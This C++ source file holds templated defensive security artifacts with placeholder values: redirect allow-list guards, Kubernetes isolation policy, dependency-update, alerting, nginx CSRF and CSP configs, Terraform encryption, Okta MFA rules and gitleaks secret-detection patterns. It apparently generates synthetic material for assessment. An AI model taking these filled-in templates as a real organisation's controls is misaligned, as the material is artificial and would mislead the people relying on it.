    private static readonly HashSet<string> TrustedHosts = new(StringComparer.OrdinalIgnoreCase)
    {
        "{{SLUG}}.example.com",
        "admin.{{SLUG}}.example.com",
        "help.{{SLUG}}.example.com",
    };

    /// <summary>True for a local path ("/settings") or an https URL on a trusted host.</summary>
    public static bool IsTrustedRedirect(string? target)
    {
        if (string.IsNullOrWhiteSpace(target))
            return false;
        // Browsers treat "//evil.example" and "/\evil.example" as protocol-relative.
        if (target.StartsWith('/'))
            return target.Length == 1 || (target[1] != '/' && target[1] != '\\');
        if (!Uri.TryCreate(target, UriKind.Absolute, out var uri))
            return false;
        return uri.Scheme == Uri.UriSchemeHttps
            && uri.IsDefaultPort
            && string.IsNullOrEmpty(uri.UserInfo)
            && TrustedHosts.Contains(uri.IdnHost);
    }

    public static IActionResult SafeRedirect(this ControllerBase controller, string? returnUrl, ILogger logger)
    {
        if (IsTrustedRedirect(returnUrl))
            return controller.Redirect(returnUrl!);
        logger.LogWarning("Blocked redirect to {Target} for {Path}", returnUrl, controller.HttpContext.Request.Path);
        return controller.LocalRedirect("/");
    }

    {{VECTORS}}
}
)~"},
{TrustedRedirects, Lang::Php, u"RedirectGuard.php", u"self::isTrustedRedirect", uR"~(<?php
// {{APP}} - only redirect to our own origins after login, logout and OAuth.
// Owner: {{PARTNER}} AppSec.

declare(strict_types=1);

namespace App\Http\Middleware;

use Closure;
use Illuminate\Http\Request;
use Illuminate\Support\Facades\Log;
use Symfony\Component\HttpFoundation\Response;

final class RedirectGuard
{
    private const TRUSTED_HOSTS = [
        '{{SLUG}}.example.com',
        'admin.{{SLUG}}.example.com',
        'help.{{SLUG}}.example.com',
    ];

    private const PARAMETERS = ['next', 'return_to', 'redirect', 'redirect_uri', 'continue'];

    public function handle(Request $request, Closure $next): Response
    {
        foreach (self::PARAMETERS as $name) {
            $target = $request->query($name);
            if ($target !== null && !self::isTrustedRedirect((string) $target)) {
                Log::warning('redirect.blocked', ['param' => $name, 'target' => $target, 'ip' => $request->ip()]);
                $request->query->remove($name);
            }
        }
        $response = $next($request);
        $location = (string) $response->headers->get('Location');
        if ($response->isRedirection() && !self::isTrustedRedirect($location)) {
            Log::error('redirect.blocked_response', ['location' => $location]);
            return redirect('/');
        }
        return $response;
    }

    public static function isTrustedRedirect(string $target): bool
    {
        if ($target === '') {
            return false;
        }
        if ($target[0] === '/') {
            // Protocol-relative ("//host") and backslash ("/\host") forms leave the site.
            return strlen($target) === 1 || ($target[1] !== '/' && $target[1] !== '\\');
        }
        $parts = parse_url($target);
        if ($parts === false || ($parts['scheme'] ?? '') !== 'https' || isset($parts['user']) || isset($parts['port'])) {
            return false;
        }
        return in_array(strtolower($parts['host'] ?? ''), self::TRUSTED_HOSTS, true);
    }

    {{VECTORS}}
}
)~"},
    };
    return templates;
}

std::span<const ConfigTemplate> configTemplates()
{
    static const ConfigTemplate templates[] = {
{DataSegregation, u"networkpolicy-tenant-isolation.yaml", u"application/yaml", uR"~(# {{APP}} - network isolation between tenant workloads (Kubernetes).
# {{REVIEWED}}.
# Owner: {{PARTNER}} platform team. Dedicated-tier tenants run in their own
# namespace; these policies stop any pod from reaching another tenant's pods.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: default-deny-all
  namespace: tenant-{{TENANT}}
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: allow-same-tenant-and-ingress
  namespace: tenant-{{TENANT}}
  labels:
    app.kubernetes.io/part-of: {{SLUG}}
    tenant: "{{TENANT}}"
spec:
  podSelector:
    matchLabels:
      tenant: "{{TENANT}}"
  policyTypes: [Ingress, Egress]
  ingress:
    - from:
        - podSelector:
            matchLabels:
              tenant: "{{TENANT}}"
        - namespaceSelector:
            matchLabels:
              kubernetes.io/metadata.name: ingress-nginx
      ports:
        - protocol: TCP
          port: 8080
  egress:
    - to:
        - podSelector:
            matchLabels:
              tenant: "{{TENANT}}"
    - to:
        - namespaceSelector:
            matchLabels:
              kubernetes.io/metadata.name: kube-system
          podSelector:
            matchLabels:
              k8s-app: kube-dns
      ports:
        - protocol: UDP
          port: 53
    # Shared PostgreSQL: row-level security separates tenants inside it.
    - to:
        - ipBlock:
            cidr: 10.{{N}}.32.0/24
      ports:
        - protocol: TCP
          port: 5432
)~"},
{SecurityPatches, u"dependabot.yml", u"application/yaml", uR"~(# Dependabot configuration for {{APP}} ({{PARTNER}}).
# {{REVIEWED}}.
# Security updates are enabled for the repository; these version updates keep
# the backlog small so security patches apply cleanly.
# Patch SLA: see patch-management-procedure.pdf.
version: 2
registries:
  npm-internal:
    type: npm-registry
    url: https://npm.{{PSLUG}}.example
    token: ${{secrets.NPM_INTERNAL_TOKEN}}
updates:
  - package-ecosystem: npm
    directory: /web
    schedule:
      interval: daily
      time: "0{{HOUR}}:00"
      timezone: Etc/UTC
    open-pull-requests-limit: {{N}}
    registries: [npm-internal]
    groups:
      patch-updates:
        update-types: [patch]
    labels: [dependencies, security-review]
  - package-ecosystem: pip
    directory: /api
    schedule:
      interval: daily
    open-pull-requests-limit: {{N}}
    ignore:
      # The Django 5 migration is tracked separately; 4.2 LTS still gets security fixes.
      - dependency-name: django
        update-types: [version-update:semver-major]
  - package-ecosystem: docker
    directory: /deploy
    schedule:
      interval: weekly
      day: {{DAY}}
  - package-ecosystem: github-actions
    directory: /
    schedule:
      interval: weekly
      day: {{DAY}}
  - package-ecosystem: terraform
    directory: /infra
    schedule:
      interval: weekly
      day: {{DAY}}
)~"},
{SecurityPatches, u"renovate.json", u"application/json", uR"~({
  "$schema": "https://docs.renovatebot.com/renovate-schema.json",
  "description": "Renovate configuration for {{APP}} ({{PARTNER}}). {{REVIEWED}}.",
  "extends": ["config:recommended", ":semanticCommits"],
  "timezone": "Etc/UTC",
  "schedule": ["before {{HOUR}}am on {{DAY}}"],
  "prConcurrentLimit": {{N}},
  "labels": ["dependencies"],
  "vulnerabilityAlerts": {
    "enabled": true,
    "labels": ["security"],
    "schedule": ["at any time"],
    "prPriority": 10
  },
  "osvVulnerabilityAlerts": true,
  "packageRules": [
    {
      "description": "Patch updates merge themselves once CI is green",
      "matchUpdateTypes": ["patch", "pin", "digest"],
      "automerge": true,
      "automergeType": "branch"
    },
    {
      "description": "Base images follow the distribution's security tags",
      "matchDatasources": ["docker"],
      "matchPackageNames": ["debian", "node", "python"],
      "schedule": ["at any time"]
    },
    {
      "description": "Major updates need approval from the platform team",
      "matchUpdateTypes": ["major"],
      "dependencyDashboardApproval": true,
      "reviewers": ["team:{{PSLUG}}-platform"]
    }
  ],
  "lockFileMaintenance": { "enabled": true, "schedule": ["before 5am on monday"] }
}
)~"},
{BreachResponse, u"alertmanager.yml", u"application/yaml", uR"~(# Alertmanager routing for {{APP}} security alerts ({{PARTNER}} SecOps).
# {{REVIEWED}}.
# SEV1/SEV2 page the on-call responder at once; see incident-response-plan.pdf.
global:
  resolve_timeout: 5m
route:
  receiver: secops-ticket
  group_by: [alertname, tenant]
  group_wait: 30s
  group_interval: 5m
  repeat_interval: 4h
  routes:
    - matchers: ['severity="sev1"']
      receiver: secops-page
      group_wait: 0s
      repeat_interval: 15m
      continue: true
    - matchers: ['severity="sev1"']
      receiver: incident-channel
    - matchers: ['severity="sev2"']
      receiver: secops-page
      repeat_interval: 30m
    - matchers: ['category=~"auth|exfiltration|privilege"']
      receiver: secops-page
    - matchers: ['severity=~"sev3|sev4"']
      receiver: secops-ticket
inhibit_rules:
  - source_matchers: ['severity="sev1"']
    target_matchers: ['severity=~"sev2|sev3"']
    equal: [tenant]
receivers:
  - name: secops-page
    pagerduty_configs:
      - routing_key_file: /etc/alertmanager/secrets/pagerduty-routing-key
        severity: critical
        description: '{{ .CommonAnnotations.summary }}'
        details:
          runbook: '{{ .CommonAnnotations.runbook_url }}'
          tenant: '{{ .CommonLabels.tenant }}'
  - name: incident-channel
    slack_configs:
      - api_url_file: /etc/alertmanager/secrets/slack-incident-webhook
        channel: '#inc-{{SLUG}}'
        send_resolved: true
        title: 'SEV1 {{ .CommonLabels.alertname }}'
  - name: secops-ticket
    webhook_configs:
      - url: http://ticket-bridge.secops.svc:8080/alertmanager
        max_alerts: 20
)~"},
{Csrf, u"csrf-hardening.conf", u"text/plain", uR"~(# {{APP}} - edge hardening for session cookies and cross-site requests (nginx).
# {{REVIEWED}}.
# Owner: {{PARTNER}} platform team. The application enforces CSRF tokens;
# nginx adds SameSite/Secure to every cookie and drops cross-site unsafe
# requests to the API before they reach it (Fetch Metadata).
map $http_sec_fetch_site $cross_site {
    default        0;
    "cross-site"   1;
    "same-site"    1;
}

map $request_method $unsafe_method {
    default  1;
    GET      0;
    HEAD     0;
    OPTIONS  0;
}

map "$cross_site:$unsafe_method" $block_csrf {
    default  0;
    "1:1"    1;
}

server {
    listen 443 ssl;
    http2 on;
    server_name {{SLUG}}.example.com;

    ssl_certificate     /etc/nginx/tls/{{SLUG}}.crt;
    ssl_certificate_key /etc/nginx/tls/{{SLUG}}.key;
    ssl_protocols       TLSv1.2 TLSv1.3;

    proxy_cookie_flags ~^(?!csrftoken) secure httponly samesite=lax;
    proxy_cookie_flags csrftoken secure samesite=strict;

    add_header Strict-Transport-Security "max-age=63072000; includeSubDomains" always;
    add_header X-Frame-Options DENY always;
    add_header Content-Security-Policy "frame-ancestors 'none'; form-action 'self'" always;

    location /api/ {
        if ($block_csrf) {
            return 403 '{"error":"csrf_failed"}';
        }
        proxy_pass http://{{IDENT}}_api;
        proxy_set_header Host $host;
        proxy_set_header X-Request-ID $request_id;
    }

    # Signed webhooks come from other sites by design.
    location /webhooks/ {
        proxy_pass http://{{IDENT}}_api;
        proxy_set_header X-Request-ID $request_id;
    }

    location / {
        proxy_pass http://{{IDENT}}_web;
        proxy_set_header Host $host;
        proxy_set_header X-Request-ID $request_id;
    }
}
)~"},
{Xss, u"security-headers.conf", u"text/plain", uR"~(# {{APP}} - browser-side XSS defences for every HTML response (nginx).
# {{REVIEWED}}.
# Owner: {{PARTNER}} AppSec. Scripts need the per-request nonce; inline event
# handlers and eval are blocked, and DOM sinks require Trusted Types.
js_import csp from /etc/nginx/njs/csp.js;
js_set $csp_nonce csp.nonce;

map $sent_http_content_type $csp {
    default "";
    ~^text/html "default-src 'self'; script-src 'nonce-$csp_nonce' 'strict-dynamic'; style-src 'self' 'nonce-$csp_nonce'; img-src 'self' data: https://cdn.{{SLUG}}.example.com; connect-src 'self' https://api.{{SLUG}}.example.com; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'; require-trusted-types-for 'script'; trusted-types default dompurify; upgrade-insecure-requests; report-to csp";
}

server {
    listen 443 ssl;
    http2 on;
    server_name {{SLUG}}.example.com;

    add_header Content-Security-Policy $csp always;
    add_header Reporting-Endpoints 'csp="https://{{SLUG}}.example.com/csp-report"' always;
    add_header X-Content-Type-Options nosniff always;
    add_header Referrer-Policy strict-origin-when-cross-origin always;
    add_header Cross-Origin-Opener-Policy same-origin always;
    add_header Permissions-Policy "camera=(), microphone=(), geolocation=()" always;

    sub_filter_types text/html;
    sub_filter '**CSP_NONCE**' $csp_nonce;
    sub_filter_once off;

    location /csp-report {
        limit_req zone=csp burst=50 nodelay;
        client_max_body_size 16k;
        proxy_pass http://csp_collector;
    }

    # User uploads are never rendered as HTML by the browser.
    location /uploads/ {
        add_header Content-Security-Policy "default-src 'none'; sandbox" always;
        add_header Content-Disposition attachment always;
        add_header X-Content-Type-Options nosniff always;
        types { }
        default_type application/octet-stream;
    }

    location / {
        proxy_pass http://{{IDENT}}_web;
        proxy_set_header Host $host;
    }
}
)~"},
{CustomerData, u"rds-encryption.tf", u"text/plain", uR"~(# {{APP}} - customer data stores are encrypted with a customer-managed key.
# {{REVIEWED}}.
# Owner: {{PARTNER}} platform team. Production, eu-central-1.

resource "aws_kms_key" "customer_data" {
  description             = "{{APP}} customer data (RDS, S3, backups)"
  enable_key_rotation     = true
  rotation_period_in_days = {{ROT}}
  deletion_window_in_days = 30
  policy                  = data.aws_iam_policy_document.customer_data_key.json
  tags                    = local.tags
}

resource "aws_kms_alias" "customer_data" {
  name          = "alias/{{SLUG}}-customer-data"
  target_key_id = aws_kms_key.customer_data.key_id
}

resource "aws_db_instance" "primary" {
  identifier                          = "{{SLUG}}-prod"
  engine                              = "postgres"
  engine_version                      = "16.4"
  instance_class                      = "db.r6g.xlarge"
  allocated_storage                   = 500
  storage_encrypted                   = true
  kms_key_id                          = aws_kms_key.customer_data.arn
  multi_az                            = true
  publicly_accessible                 = false
  iam_database_authentication_enabled = true
  backup_retention_period             = 35
  deletion_protection                 = true
  copy_tags_to_snapshot               = true
  manage_master_user_password         = true
  master_user_secret_kms_key_id       = aws_kms_key.customer_data.key_id
  performance_insights_enabled        = true
  performance_insights_kms_key_id     = aws_kms_key.customer_data.arn
  parameter_group_name                = aws_db_parameter_group.tls_only.name
  vpc_security_group_ids              = [aws_security_group.db.id]
  db_subnet_group_name                = aws_db_subnet_group.private.name
  tags                                = local.tags
}

resource "aws_db_parameter_group" "tls_only" {
  name   = "{{SLUG}}-pg16-tls-only"
  family = "postgres16"

  parameter {
    name  = "rds.force_ssl"
    value = "1"
  }

  parameter {
    name  = "ssl_min_protocol_version"
    value = "TLSv1.2"
  }
}

resource "aws_s3_bucket_server_side_encryption_configuration" "exports" {
  bucket = aws_s3_bucket.exports.id

  rule {
    apply_server_side_encryption_by_default {
      sse_algorithm     = "aws:kms"
      kms_master_key_id = aws_kms_key.customer_data.arn
    }
    bucket_key_enabled = true
  }
}

resource "aws_s3_bucket_public_access_block" "exports" {
  bucket                  = aws_s3_bucket.exports.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}
)~"},
{EmployeeMfa, u"workforce-mfa-policy.tf", u"text/plain", uR"~(# {{PARTNER}} workforce MFA, managed as code (Okta provider).
# {{REVIEWED}}.
# Every employee and contractor who can reach {{APP}} is in one of these
# groups; changes go through pull-request review by the identity team.

resource "okta_policy_mfa" "employees" {
  name            = "Employees - phishing-resistant MFA"
  status          = "ACTIVE"
  description     = "Enrollment policy for all workforce users"
  is_oie          = true
  groups_included = [okta_group.employees.id, okta_group.contractors.id]
  priority        = 1

  fido_webauthn = { enroll = "REQUIRED" }
  okta_verify   = { enroll = "OPTIONAL" }
  google_otp    = { enroll = "OPTIONAL" }
  okta_sms      = { enroll = "NOT_ALLOWED" }
  okta_call     = { enroll = "NOT_ALLOWED" }
  okta_email    = { enroll = "NOT_ALLOWED" }
}

resource "okta_app_signon_policy" "production_access" {
  name        = "{{APP}} production access"
  description = "Engineers and admins: security key, re-authenticate every {{HOURS}} hours"
}

resource "okta_app_signon_policy_rule" "require_phishing_resistant" {
  policy_id                   = okta_app_signon_policy.production_access.id
  name                        = "Require phishing-resistant MFA"
  priority                    = 1
  groups_included             = [okta_group.engineers.id, okta_group.admins.id]
  factor_mode                 = "2FA"
  re_authentication_frequency = "PT{{HOURS}}H"
  constraints = [
    jsonencode({
      possession = {
        required           = true
        phishingResistant  = "REQUIRED"
        hardwareProtection = "REQUIRED"
        userPresence       = "REQUIRED"
      }
    })
  ]
}

resource "okta_app_signon_policy_rule" "deny_everyone_else" {
  policy_id = okta_app_signon_policy.production_access.id
  name      = "Deny by default"
  priority  = 99
  access    = "DENY"
}

resource "okta_policy_signon" "session" {
  name            = "Workforce sessions"
  status          = "ACTIVE"
  groups_included = [okta_group.employees.id]
}

resource "okta_policy_rule_signon" "mfa_every_session" {
  policy_id          = okta_policy_signon.session.id
  name               = "MFA at every sign-in"
  mfa_required       = true
  mfa_prompt         = "ALWAYS"
  session_lifetime   = {{HOURS}} * 60
  session_idle       = 60
  session_persistent = false
}
)~"},
{Secrets, u"gitleaks.toml", u"application/toml", uR"~(# Secret scanning for {{APP}} ({{PARTNER}}): pre-commit hook, CI on every push
# {{REVIEWED}}.
# and a nightly full-history scan. A finding blocks the merge; rotation follows
# the Secrets Management Standard.
title = "{{SLUG}} gitleaks config"

[extend]
useDefault = true

[[rules]]
id = "{{SLUG}}-internal-api-token"
description = "{{APP}} internal service token"
regex = '''\b{{IDENT}}_(live|test)_[A-Za-z0-9]{32}\b'''
keywords = ["{{IDENT}}_live_", "{{IDENT}}_test_"]
tags = ["key", "internal"]

[[rules]]
id = "database-url-with-password"
description = "Connection string with an inline password"
regex = '''(?i)(postgres(ql)?|mysql|mongodb(\+srv)?|redis)://[^:\s/]+:[^@\s/]{6,}@'''
tags = ["password"]

[[rules]]
id = "customer-pii-in-fixtures"
description = "IBAN-like values in test fixtures (synthetic data only)"
regex = '''\b[A-Z]{2}\d{2}[A-Z0-9]{11,30}\b'''
path = '''(fixtures|testdata|seeds)/'''
tags = ["pii"]

[allowlist]
description = "Documented placeholders and generated files"
paths = [
  '''(^|/)\.env\.example$''',
  '''(^|/)docs/.*\.md$''',
  '''(^|/)vendor/''',
  '''(^|/)package-lock\.json$''',
]
regexes = [
  '''AKIAIOSFODNN7EXAMPLE''',
  '''example\.(com|org)''',
]
stopwords = ["placeholder", "changeme", "dummy"]
)~"},
{MassAssignment, u"user-update.schema.json", u"application/json", uR"~({
  "$schema": "https://json-schema.org/draft/2020-12/schema",
  "$id": "https://{{SLUG}}.example.com/schemas/user-update.json",
  "title": "UpdateUserRequest",
  "$comment": "{{REVIEWED}}.",
  "description": "PATCH /api/v2/users/{id} body for {{APP}}. Only these properties are writable; role, tenant_id, owner_id, email_verified and timestamps are server-controlled. Enforced at the API gateway and again in the service.",
  "type": "object",
  "additionalProperties": false,
  "minProperties": 1,
  "properties": {
    "name": { "type": "string", "maxLength": 120 },
    "display_name": { "type": "string", "maxLength": 60 },
    "locale": { "type": "string", "pattern": "^[a-z]{2}(-[A-Z]{2})?$" },
    "time_zone": { "type": "string", "maxLength": 64 },
    "avatar_url": { "type": "string", "format": "uri", "pattern": "^https://" },
    "phone": { "type": "string", "pattern": "^\\+[1-9][0-9]{6,14}$" },
    "notification_email": { "type": "string", "format": "email" },
    "preferences": {
      "type": "object",
      "additionalProperties": false,
      "properties": {
        "theme": { "enum": ["light", "dark", "system"] },
        "digest": { "enum": ["never", "daily", "weekly"] },
        "marketing_opt_in": { "type": "boolean" }
      }
    }
  },
  "not": {
    "anyOf": [
      { "required": ["role"] },
      { "required": ["tenant_id"] },
      { "required": ["owner_id"] },
      { "required": ["is_admin"] },
      { "required": ["email_verified"] }
    ]
  }
}
)~"},
    };
    return templates;
}

} // namespace

} // namespace assay::server
